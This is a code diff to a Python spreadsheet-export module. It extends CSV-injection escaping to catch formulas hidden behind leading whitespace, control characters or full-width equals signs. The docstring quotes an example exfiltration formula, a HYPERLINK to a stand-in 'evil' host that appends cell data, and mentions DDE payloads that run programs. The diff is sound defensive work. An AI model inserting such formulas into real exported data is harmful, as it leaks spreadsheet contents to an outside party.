@@ -6,6 +6,10 @@ Sheets (``=HYPERLINK("http://evil/?"&A1)`` leaks data, DDE payloads run programs
 "CSV Injection" advice: prefix such text cells with an apostrophe, which spreadsheets show as
 text. Numbers stay numbers (a negative *number* is not text and is not touched).
 
+Spreadsheets skip leading blanks and line breaks before they look for a formula, and some
+(LibreOffice, Excel with East Asian input) read full-width ``＝`` as ``=``; so the test looks at
+the first character that is not white space or a control character, NFKC-normalised.
+
 CSV is UTF-8 with a byte-order mark so Excel opens Vietnamese, Persian and Chinese text
 correctly. XLSX is written by xlsxwriter with its own string-to-formula/URL/number conversions
 switched off, so a cell is only ever a literal string or number.
@@ -18,11 +22,14 @@ import datetime as dt
 import io
 import math
 import re
+import unicodedata
 from collections.abc import Sequence
 from dataclasses import dataclass, field
 from typing import Any, NamedTuple
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+#: characters a spreadsheet starts a formula with once NFKC has folded full-width forms
+_FORMULA_CHARS = frozenset("=+-@\u2212")
 MAX_EXPORT_ROWS = 200_000
 _FILENAME = re.compile(r"[^A-Za-z0-9._-]+")
 
@@ -78,9 +85,19 @@ def neutralise(value: Any) -> Any:
             else ", ".join(str(v) for v in value)
         )
     text = str(value)
-    if text.startswith(FORMULA_START):
+    if text.startswith(FORMULA_START) or _formula_like(text):
         return "'" + text
     return text
+
+
+def _formula_like(text: str) -> bool:
+    """The first character that is not blank or a control character starts a formula
+    (``" =1+1"``, ``"\\n=1+1"``, full-width ``"＝1+1"``)."""
+    for ch in text[:64]:
+        if ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf", "Zs"}:
+            continue
+        return unicodedata.normalize("NFKC", ch)[:1] in _FORMULA_CHARS
+    return False
 
 
 def _cells(table: Table) -> list[list[Any]]:
